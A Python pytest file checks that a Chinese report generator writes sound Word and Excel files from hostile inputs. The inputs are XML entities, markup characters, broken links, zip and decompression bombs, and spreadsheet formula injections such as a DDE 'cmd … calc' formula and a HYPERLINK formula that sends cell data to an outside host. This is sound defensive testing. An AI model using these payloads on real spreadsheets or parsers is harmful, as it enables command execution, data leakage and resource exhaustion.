"""Every Word file chuangcheng writes is sound, whatever the letterhead, the 版式 or the photos:
text cleaned of what XML forbids, every value escaped, every part re-serialized with a content
type and only links that lead somewhere; oversized references and photos are errors."""

from __future__ import annotations

import io
import random
import re
import struct
import zipfile
import zlib
from pathlib import Path

import pytest
from PIL import Image

from chuangcheng import reference as reference_module
from chuangcheng.errors import InputError
from chuangcheng.render import layout_notes, render_unit, unit_layout
from chuangcheng.word import build_docx

from .conftest import MINIMAL
from .docx_check import problems
from .test_reference import _letterhead

R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def _edit(path: Path, **changes: bytes | None) -> Path:
    """The .docx at ``path`` with parts replaced (``None`` removes one); names use ``__`` for ``/``."""
    wanted = {name.replace("__", "/").replace("_DOT_", "."): data for name, data in changes.items()}
    with zipfile.ZipFile(path) as old:
        parts = {name: old.read(name) for name in old.namelist()}
    for name, data in wanted.items():
        if data is None:
            parts.pop(name, None)
        else:
            parts[name] = data
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as new:
        for name, data in parts.items():
            new.writestr(name, data)
    return path


def _part(path: Path, name: str) -> str:
    with zipfile.ZipFile(path) as archive:
        return archive.read(name).decode("utf-8")


def _render(tmp_path: Path, reference: Path) -> tuple[Path, list[str]]:
    unit = tmp_path / "unit.yaml"
    unit.write_text(MINIMAL, encoding="utf-8")
    layout, _ = unit_layout(unit, reference)
    notes = [str(d) for d in layout_notes(layout)]
    render_unit(unit, tmp_path / "out", ["docx"], layout=layout)
    out = tmp_path / "out" / "官塘社区.docx"
    assert problems(out) == []
    return out, notes


def _refused(call, *args: object) -> str:  # type: ignore[no-untyped-def]
    """The diagnostics of the InputError ``call(*args)`` raises."""
    with pytest.raises(InputError) as caught:
        call(*args)
    return "\n".join(str(d) for d in caught.value.diagnostics)


def _header_parts(docx: Path) -> dict[str, str]:
    with zipfile.ZipFile(docx) as archive:
        return {n: archive.read(n).decode("utf-8") for n in archive.namelist() if "header" in n}


@pytest.fixture
def letterhead(tmp_path: Path) -> Path:
    return _letterhead(tmp_path / "信笺.docx")


def test_a_header_link_with_an_ampersand(tmp_path: Path, letterhead: Path) -> None:
    header = _part(letterhead, "word/header1.xml").replace(
        "</w:p>", '<w:hyperlink r:id="rIdLink"><w:r><w:t>官网</w:t></w:r></w:hyperlink></w:p>', 1)
    rels = _part(letterhead, "word/_rels/header1.xml.rels").replace(
        "</Relationships>", f'<Relationship Id="rIdLink" Type="{R}/hyperlink" '
        'Target="http://jc.gov.cn/?a=1&amp;b=&lt;2&gt;" TargetMode="External"/></Relationships>')
    _edit(letterhead, word__header1_DOT_xml=header.encode(), word___rels__header1_DOT_xml_DOT_rels=rels.encode())
    out, notes = _render(tmp_path, letterhead)
    parts = _header_parts(out)
    assert 'Target="http://jc.gov.cn/?a=1&amp;b=&lt;2&gt;"' in "".join(parts.values())
    assert "官网" in "".join(parts.values()) and notes == []


@pytest.mark.parametrize(("ext", "fmt"), [("jfif", "JPEG"), ("webp", "WEBP"), ("jpe", "JPEG")])
def test_a_header_picture_in_a_format_without_content_type(tmp_path: Path, letterhead: Path, ext: str,
                                                          fmt: str) -> None:
    rels = _part(letterhead, "word/_rels/header1.xml.rels")
    old = re.search(r'Target="(media/[^"]+)"', rels)
    assert old is not None
    picture = io.BytesIO()
    Image.new("RGB", (40, 40), (200, 0, 0)).save(picture, fmt)
    _edit(letterhead, **{"word___rels__header1_DOT_xml_DOT_rels": rels.replace(old[1], f"media/logo.{ext}").encode(),
                         f"word__media__logo_DOT_{ext}": picture.getvalue(),
                         "word__" + old[1].replace("/", "__").replace(".", "_DOT_"): None})
    out, notes = _render(tmp_path, letterhead)
    with zipfile.ZipFile(out) as archive:
        media = [n for n in archive.namelist() if n.startswith("word/media/ref")]
        assert len(media) == 1 and media[0].endswith((".jpeg", ".png"))
        Image.open(io.BytesIO(archive.read(media[0]))).verify()
    assert notes == []


def test_an_embedded_font_is_dropped_with_a_warning(tmp_path: Path, letterhead: Path) -> None:
    fonts = _part(letterhead, "word/fontTable.xml")
    embed = '<w:embedRegular r:id="rIdFont1" w:fontKey="{0A1B2C3D-0000-0000-0000-000000000000}"/>'
    fonts = re.sub(r"(<w:font [^>]*>)", lambda m: m[1] + embed, fonts, count=1)
    if 'xmlns:r="' not in fonts.split(">", 2)[1]:
        fonts = fonts.replace("<w:fonts ", f'<w:fonts xmlns:r="{R}" ', 1)
    rels = (f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
            f'2006/relationships"><Relationship Id="rIdFont1" Type="{R}/font" Target="fonts/font1.odttf"/>'
            "</Relationships>")
    _edit(letterhead, word__fontTable_DOT_xml=fonts.encode(), word___rels__fontTable_DOT_xml_DOT_rels=rels.encode(),
          word__fonts__font1_DOT_odttf=b"\0" * 64)
    out, notes = _render(tmp_path, letterhead)
    assert "embedRegular" not in _part(out, "word/fontTable.xml")
    assert len(notes) == 1
    assert "CC111 警告 参考文档: word/fontTable.xml 中的嵌入的字体无法带到报告里，已去掉" in notes[0]


def test_a_header_with_a_doctype_and_an_entity(tmp_path: Path, letterhead: Path) -> None:
    header = _part(letterhead, "word/header1.xml")
    body = header.split("?>", 1)[1].replace("江城区石城街道办事处", "&office;石城街道办事处")
    header = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
              '<!DOCTYPE w:hdr [<!ENTITY office "江城区">]>' + body)
    _edit(letterhead, word__header1_DOT_xml=header.encode())
    out, _ = _render(tmp_path, letterhead)
    text = "".join(_header_parts(out).values())
    assert "DOCTYPE" not in text and "ENTITY" not in text and "&office;" not in text
    assert "石城街道办事处" in text


def test_links_that_lead_nowhere_are_dropped(tmp_path: Path, letterhead: Path) -> None:
    document = _part(letterhead, "word/document.xml").replace(
        "</w:sectPr>", '<w:printerSettings r:id="rIdPrinter"/></w:sectPr>')
    header = _part(letterhead, "word/header1.xml").replace(
        "</w:p>", '<w:r><w:drawing><wp:anchor/></w:drawing></w:r><w:hyperlink r:id="rIdGone"><w:r><w:t>链接文字</w:t>'
        "</w:r></w:hyperlink></w:p>", 1)
    if "xmlns:wp=" not in header:
        header = header.replace("<w:hdr ", '<w:hdr xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/'
                                           'wordprocessingDrawing" ', 1)
    _edit(letterhead, word__document_DOT_xml=document.encode(), word__header1_DOT_xml=header.encode())
    out, notes = _render(tmp_path, letterhead)
    assert "printerSettings" not in _part(out, "word/document.xml")
    text = "".join(_header_parts(out).values())
    assert "rIdGone" not in text and "链接文字" in text  # the hyperlink keeps its words
    assert any("打印机设置" in n for n in notes) and any("header1.xml" in n for n in notes)


def test_a_header_reference_to_something_else(tmp_path: Path, letterhead: Path) -> None:
    rels = _part(letterhead, "word/_rels/document.xml.rels")
    header_target = re.search(r'Target="(header1\.xml)"', rels)
    assert header_target is not None
    _edit(letterhead, word___rels__document_DOT_xml_DOT_rels=rels.replace('Target="header1.xml"',
                                                                           'Target="styles.xml"').encode())
    out, notes = _render(tmp_path, letterhead)
    assert not [n for n in zipfile.ZipFile(out).namelist() if "headerref" in n]
    assert any("不是页眉" in n for n in notes)


@pytest.mark.parametrize("limit", ["MAX_REFERENCE_PART_BYTES", "MAX_REFERENCE_TOTAL_BYTES"])
def test_a_reference_that_inflates_is_refused(tmp_path: Path, letterhead: Path, monkeypatch: pytest.MonkeyPatch,
                                              limit: str) -> None:
    monkeypatch.setattr(reference_module, limit, 200_000)
    styles = _part(letterhead, "word/styles.xml")
    big = styles.replace("</w:styles>", " " * 300_000 + "</w:styles>")
    _edit(letterhead, word__styles_DOT_xml=big.encode())
    assert letterhead.stat().st_size < 100_000
    assert "解压后超过" in _refused(_render, tmp_path, letterhead)


def test_a_zip_bomb_at_the_real_limit(tmp_path: Path, letterhead: Path) -> None:
    """25 MB of spaces in one part, 25 kB on disk: refused at 20 MB, never read whole."""
    styles = _part(letterhead, "word/styles.xml").encode()
    with zipfile.ZipFile(letterhead, "a", zipfile.ZIP_DEFLATED) as archive, \
            archive.open("word/padding.xml", "w") as part:
        for _ in range(25):
            part.write(b" " * 2**20)
    _edit(letterhead, word__styles_DOT_xml=styles.replace(b"</w:styles>", b" " * (21 * 2**20) + b"</w:styles>"))
    with pytest.raises(InputError) as caught:
        _render(tmp_path, letterhead)
    message = str(caught.value.diagnostics[0])
    assert "CC101" in message and "word/styles.xml 解压后超过 20 MB" in message and str(letterhead) in message


def test_a_reference_file_over_the_size_limit(tmp_path: Path, letterhead: Path,
                                              monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(reference_module, "MAX_REFERENCE_BYTES", 1000)
    assert "超过参考文档的上限" in _refused(_render, tmp_path, letterhead)


def test_a_damaged_part_is_an_error_in_chinese(tmp_path: Path, letterhead: Path) -> None:
    _edit(letterhead, word__header1_DOT_xml=b"<w:hdr><unclosed>")
    message = _refused(_render, tmp_path, letterhead)
    assert "CC101 参考文档: 文件已损坏（word/header1.xml 不是有效的 XML）" in message


# --- text and values from the unit and district files -----------------------------------------


def test_text_with_characters_xml_forbids_becomes_a_sound_docx() -> None:
    data = build_docx("# 标题\x01\n\n正文a\x08b\ufffec\uffffd\x1f，&<>\"'。\n")
    assert problems(data) == []
    document = zipfile.ZipFile(io.BytesIO(data)).read("word/document.xml").decode()
    assert "正文abcd，&amp;&lt;&gt;\"'。" in document


@pytest.mark.parametrize("font", ["A&B", "仿宋<GB2312>", 'x" y', "楷体'"])
def test_a_layout_font_name_with_markup_characters(tmp_path: Path, font: str) -> None:
    quoted = "'" + font.replace("'", "''") + "'"
    (tmp_path / "district.yaml").write_text(
        "区: 江城区\n报告期: {开始: 2026-01-01, 结束: 2026-06-30}\n截止日期: 2026-07-10\n"
        f"版式: {{正文字体: {quoted}, 标题字体: {quoted}}}\n", encoding="utf-8")
    unit = tmp_path / "unit.yaml"
    unit.write_text(MINIMAL, encoding="utf-8")
    layout, found = unit_layout(unit)
    assert found == [] and layout.body_font == font
    render_unit(unit, tmp_path, ["docx"], layout=layout)
    out = tmp_path / "官塘社区.docx"
    assert problems(out) == []
    from docx import Document

    assert Document(str(out)).styles["Normal"].element.rPr.rFonts.get(
        "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}eastAsia") == font


# --- photos ---------------------------------------------------------------------------------------


def _png_header(width: int, height: int) -> bytes:
    """A PNG that says it is ``width`` × ``height`` (what a decompression bomb says)."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    idat = zlib.compress(b"\0" * 1000)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
            + chunk(b"IDAT", idat) + chunk(b"IEND", b""))


def _unit_with_photo(folder: Path, name: str) -> Path:
    unit = folder / "unit.yaml"
    unit.write_text(MINIMAL.replace("    志愿者: 45人\n", f"    志愿者: 45人\n    照片: [{name}]\n"), encoding="utf-8")
    return unit


@pytest.mark.parametrize("size", [(30000, 30000), (8001, 8000), (200_000, 400)])
def test_a_photo_with_too_many_pixels_is_refused_from_its_header(tmp_path: Path, size: tuple[int, int]) -> None:
    (tmp_path / "bomb.png").write_bytes(_png_header(*size))
    unit = _unit_with_photo(tmp_path, "bomb.png")
    with pytest.raises(InputError) as caught:
        render_unit(unit)
    message = str(caught.value.diagnostics[0])
    assert "CC211" in message and f"{size[0]}×{size[1]} 像素" in message and "6400 万像素" in message
    from chuangcheng.validate import validate_paths

    found = [d for f in validate_paths([unit]).files for d in f.diagnostics if d.code == "CC211"]
    assert len(found) == 1 and "6400 万像素" in found[0].message


def test_a_photo_file_over_the_size_limit(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from chuangcheng import images

    monkeypatch.setattr(images, "MAX_PHOTO_BYTES", 1000)
    Image.frombytes("RGB", (100, 100), random.Random(0).randbytes(30000)).save(tmp_path / "big.png")  # 30 kB
    assert "CC211" in _refused(render_unit, _unit_with_photo(tmp_path, "big.png"))


def _modes(folder: Path) -> list[str]:
    exif = Image.Exif()
    exif[0x0112] = 6
    palette = Image.new("P", (90, 60))
    palette.putpalette(list(range(256)) * 3)
    palette.save(folder / "palette-transparent.png", transparency=bytes([0, 128, 255]))
    palette.save(folder / "palette-exif.png", transparency=0, exif=exif)
    Image.new("LA", (90, 60)).save(folder / "grey-alpha.png")
    Image.new("RGBA", (90, 60), (1, 2, 3, 100)).save(folder / "rgba.png")
    Image.new("CMYK", (90, 60)).save(folder / "cmyk.jpg")
    Image.new("I;16", (90, 60), 3000).save(folder / "sixteen-bit.png")
    Image.new("I", (90, 60), 70000).save(folder / "thirty-two-bit.tif")
    Image.new("F", (90, 60), 0.5).save(folder / "float.tif")
    Image.new("1", (90, 60)).save(folder / "one-bit.bmp")
    frames = [Image.new("P", (30, 30), i) for i in range(3)]
    frames[0].save(folder / "animated.gif", save_all=True, append_images=frames[1:], transparency=0)
    Image.new("RGB", (90, 60)).save(folder / "rotated.jpg", exif=exif)
    Image.new("RGBA", (90, 60)).save(folder / "alpha.webp")
    Image.new("YCbCr", (90, 60)).save(folder / "ycbcr.jpg")
    return sorted(p.name for p in folder.iterdir() if p.suffix != ".yaml")


def test_every_image_mode_becomes_a_photo_word_shows(tmp_path: Path) -> None:
    names = _modes(tmp_path)
    unit = tmp_path / "unit.yaml"
    unit.write_text(MINIMAL.replace("    志愿者: 45人\n", f"    志愿者: 45人\n    照片: [{', '.join(names)}]\n"),
                    encoding="utf-8")
    [docx] = [p for p in render_unit(unit, formats=["docx"]).outputs if p.suffix == ".docx"]
    assert problems(docx) == []
    with zipfile.ZipFile(docx) as archive:
        assert archive.read("word/document.xml").count(b"<pic:pic ") == len(names)
        for name in [n for n in archive.namelist() if n.startswith("word/media/")]:
            with Image.open(io.BytesIO(archive.read(name))) as image:
                assert image.format in {"JPEG", "PNG"} and image.mode in {"RGB", "L", "RGBA", "P", "1"}


# --- the workbook -----------------------------------------------------------------------------------


def test_workbook_cells_from_user_text_are_strings() -> None:
    from chuangcheng.batch import UnitSummary
    from chuangcheng.workbook import build_workbook

    formula = '=HYPERLINK("http://x.cn/?q="&A2,"看")'
    unit = UnitSummary(file="=1+2.yaml", name="=cmd|' /C calc'!A0", type="@SUM(1)", period=("2026-01-01", "2026-06-30"),
                       activities=1, participants=[("10", "人次", "")], volunteers=[],
                       amounts=[(formula, "3", "条", ""), ("+1-1", "2", "份", "")],
                       highlights=[], problems=[], outputs=[])
    data = build_workbook([unit], "=汇总")
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
        strings = archive.read("xl/sharedStrings.xml").decode()
    formulas = re.findall(r"<f>(.*?)</f>", sheet)
    assert formulas and all(f.startswith("SUM(") for f in formulas), formulas
    for text in ('=HYPERLINK("http://x.cn/?q="&amp;A2,"看")（条）', "+1-1（份）", "=cmd|' /C calc'!A0", "@SUM(1)",
                 "=1+2.yaml"):
        assert text.replace('"', "&quot;") in strings or text in strings, text
